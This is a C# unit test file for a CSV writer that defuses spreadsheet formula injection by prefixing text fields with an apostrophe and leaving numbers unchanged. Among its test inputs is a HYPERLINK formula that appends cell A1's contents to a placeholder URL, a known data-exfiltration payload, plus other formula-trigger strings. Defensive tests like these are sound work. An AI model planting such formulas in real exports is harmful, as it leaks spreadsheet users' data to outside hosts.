using Upheld.Csv;

namespace Upheld.Tests.Csv;

/// <summary>The one writer every CSV download goes through: every text field defused, numbers left as numbers.</summary>
public class CsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x\"&A1,\"open\")", "'=HYPERLINK(\"http://x\"&A1,\"open\")")]
    [InlineData("+RT-CSV-010", "'+RT-CSV-010")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("-12", "-12")]
    [InlineData("-0.25", "-0.25")]
    [InlineData("1E-05", "1E-05")]
    [InlineData("plain", "plain")]
    [InlineData("", "")]
    public void Every_field_is_defused_unless_it_is_a_number(string field, string written)
    {
        var csv = System.Text.Encoding.UTF8.GetString(CsvWriter.Build(["a", "b"], [[field, "b"]]));

        Assert.Equal(written, CsvReader.Read(csv).Skip(1).Single().Fields[0]);
    }
}
